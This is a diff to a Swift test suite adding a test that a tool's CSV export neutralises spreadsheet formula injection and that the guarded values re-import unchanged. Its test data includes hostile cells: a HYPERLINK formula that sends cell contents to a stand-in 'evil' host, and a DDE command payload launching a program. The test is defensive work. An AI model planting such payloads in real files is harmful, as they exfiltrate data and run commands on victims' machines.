@@ -285,6 +285,36 @@ struct SpreadsheetTests {
             "\(back)")
     }
 
+    @Test("export --format csv: text that would run as a formula goes out behind an apostrophe and comes back as it was")
+    func exportGuardsFormulas() throws {
+        try harness.makeDatabase(withSample: true)
+        let hostile: [(String, String)] = [
+            ("name", #"=HYPERLINK("http://evil/?"&A1,"klik")"#), ("hostname", "+cmd|' /C calc'!A0"),
+            ("assigned_to", "@SUM(1)"), ("serial", "-2+3"), ("model", "'=already quoted"), ("os", "'plain"),
+        ]
+        let sets = hostile.map { "w.\($0.0) = '\($0.1.replacingOccurrences(of: "'", with: "\\'"))'" }
+        try harness.succeed(
+            "query", "MATCH (w:Workstation) WITH w ORDER BY w.id LIMIT 1 SET \(sets.joined(separator: ", ")), w.memory_gb = -8")
+        let one = "MATCH (w:Workstation) RETURN w ORDER BY w.id LIMIT 1"
+        let before = try harness.succeed("query", one, "--format", "json").out
+        for (_, value) in hostile { #expect(before.contains(value.replacingOccurrences(of: "\"", with: "\\\"")), "\(before)") }
+        let csv = try harness.succeed("export", "--format", "csv", "--class", "Workstation").stdout
+        let text = String(decoding: csv, as: UTF8.self)
+        let row = try #require(text.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") })
+        for cell in [#""'=HYPERLINK(""http://evil/?""&A1,""klik"")""#, "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3",
+            "''=already quoted", ";'plain;"]
+        {
+            #expect(row.contains(cell), "\(cell) in \(row)")
+        }
+        #expect(row.contains(";-8;") || row.hasSuffix(";-8"), "a negative number stays a number: \(row)")
+        #expect(!text.components(separatedBy: "\r\n").contains { $0.hasPrefix("'") }, "ids and plain cells are left alone")
+        // Back in: the same values, nothing changed.
+        let file = try harness.sandbox.write("guarded.csv", data: csv)
+        let again = try harness.succeed("import", file)
+        #expect(again.err.contains("nothing changed"), "\(again)")
+        #expect(try harness.succeed("query", one, "--format", "json").out == before)
+    }
+
     @Test("export --format csv: bad requests exit 2", arguments: [
         (["export", "--format", "csv"], "give --class"),
         (["export", "--format", "csv", "--class", "Werkstation"], "unknown class 'Werkstation' (did you mean 'Workstation'?)"),
